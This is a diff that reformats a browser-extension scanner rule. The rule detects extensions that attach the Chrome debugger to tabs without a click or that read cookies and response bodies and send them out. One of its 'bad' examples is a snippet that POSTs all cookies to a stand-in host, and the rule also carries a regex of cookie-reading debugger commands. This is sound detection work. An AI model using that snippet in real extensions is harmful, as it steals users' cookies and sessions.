@@ -5,7 +5,16 @@ import { originsOf } from './origins.ts';
 import { leavesBy } from './sendings.ts';
 import { callsWithin, few, functionOf } from './usage.ts';
 
-const BY_ITSELF = ['chrome.tabs.onUpdated.addListener', 'chrome.tabs.onCreated.addListener', 'chrome.tabs.onActivated.addListener', 'chrome.webNavigation.onCommitted.addListener', 'chrome.webNavigation.onBeforeNavigate.addListener', 'chrome.runtime.onStartup.addListener', 'setInterval', 'chrome.alarms.onAlarm.addListener'];
+const BY_ITSELF = [
+  'chrome.tabs.onUpdated.addListener',
+  'chrome.tabs.onCreated.addListener',
+  'chrome.tabs.onActivated.addListener',
+  'chrome.webNavigation.onCommitted.addListener',
+  'chrome.webNavigation.onBeforeNavigate.addListener',
+  'chrome.runtime.onStartup.addListener',
+  'setInterval',
+  'chrome.alarms.onAlarm.addListener',
+];
 
 export const debuggerOnEveryTab = defineRule({
   id: 'debugger-on-every-tab',
@@ -20,30 +29,52 @@ export const debuggerOnEveryTab = defineRule({
   remedy: 'Attach only to the tab that the person chose, on a click, and detach at once when done.',
   check: checkScripts(function* ({ script, hit }) {
     if (callsOf(script, 'chrome.debugger.attach', 'chrome.debugger.sendCommand').length === 0) return;
-    const alone = new Set(few(callsOf(script, ...BY_ITSELF)).flatMap((call) => {
-      const fn = functionOf(script, call.args[0] ?? 0);
-      return fn === undefined ? [] : callsWithin(script, fn).map((inner) => inner.value);
-    }));
-    const all = new Set(callsOf(script, 'chrome.tabs.query').filter((call) => keysOf(script, call.args[0] ?? 0).length === 0).map((call) => call.value));
+    const alone = new Set(
+      few(callsOf(script, ...BY_ITSELF)).flatMap((call) => {
+        const fn = functionOf(script, call.args[0] ?? 0);
+        return fn === undefined ? [] : callsWithin(script, fn).map((inner) => inner.value);
+      }),
+    );
+    const all = new Set(
+      callsOf(script, 'chrome.tabs.query')
+        .filter((call) => keysOf(script, call.args[0] ?? 0).length === 0)
+        .map((call) => call.value),
+    );
     for (const call of callsOf(script, 'chrome.debugger.attach')) {
       const origins = all.size === 0 ? undefined : originsOf(script, call.args[0] ?? 0);
       if (alone.has(call.value) || [...all].some((query) => origins?.has(query) === true)) yield hit(call.value);
     }
     for (const call of callsOf(script, 'chrome.debugger.sendCommand')) {
-      if (!/^(Network\.getResponseBody|Network\.getAllCookies|Network\.getCookies|Storage\.getCookies|Fetch\.getResponseBody|Network\.getRequestPostData)$/.test(constant(script, call.args[1] ?? 0) ?? '')) continue;
+      if (
+        !/^(Network\.getResponseBody|Network\.getAllCookies|Network\.getCookies|Storage\.getCookies|Fetch\.getResponseBody|Network\.getRequestPostData)$/.test(
+          constant(script, call.args[1] ?? 0) ?? '',
+        )
+      )
+        continue;
       const out = leavesBy(script, new Set([call.value]), ['network']);
-      if (out !== undefined) yield hit(call.value, { severity: 'critical', message: `What it reads is sent to ${out.to}.` });
+      if (out !== undefined)
+        yield hit(call.value, { severity: 'critical', message: `What it reads is sent to ${out.to}.` });
     }
   }),
   examples: {
     bad: [
-      backgroundExample('chrome.tabs.onUpdated.addListener((tabId) => { chrome.debugger.attach({ tabId }, "1.3", () => {}); });'),
-      backgroundExample('chrome.debugger.sendCommand({ tabId }, "Network.getAllCookies", {}, (r) => { fetch("https://x.example/c", { method: "POST", body: JSON.stringify(r.cookies) }); });'),
+      backgroundExample(
+        'chrome.tabs.onUpdated.addListener((tabId) => { chrome.debugger.attach({ tabId }, "1.3", () => {}); });',
+      ),
+      backgroundExample(
+        'chrome.debugger.sendCommand({ tabId }, "Network.getAllCookies", {}, (r) => { fetch("https://x.example/c", { method: "POST", body: JSON.stringify(r.cookies) }); });',
+      ),
     ],
     good: [
-      backgroundExample('chrome.action.onClicked.addListener(async () => { const [tab] = await chrome.tabs.query({ active: true, currentWindow: true }); chrome.debugger.attach({ tabId: tab.id }, "1.3"); });'),
-      backgroundExample('chrome.action.onClicked.addListener((tab) => { chrome.debugger.attach({ tabId: tab.id }, "1.3"); });'),
-      backgroundExample('chrome.tabs.onUpdated.addListener((id) => badge(id)); chrome.debugger.onDetach.addListener(stop); chrome.debugger.sendCommand(t, "Network.getAllCookies", {}, (r) => show(r));'),
+      backgroundExample(
+        'chrome.action.onClicked.addListener(async () => { const [tab] = await chrome.tabs.query({ active: true, currentWindow: true }); chrome.debugger.attach({ tabId: tab.id }, "1.3"); });',
+      ),
+      backgroundExample(
+        'chrome.action.onClicked.addListener((tab) => { chrome.debugger.attach({ tabId: tab.id }, "1.3"); });',
+      ),
+      backgroundExample(
+        'chrome.tabs.onUpdated.addListener((id) => badge(id)); chrome.debugger.onDetach.addListener(stop); chrome.debugger.sendCommand(t, "Network.getAllCookies", {}, (r) => show(r));',
+      ),
     ],
   },
 });
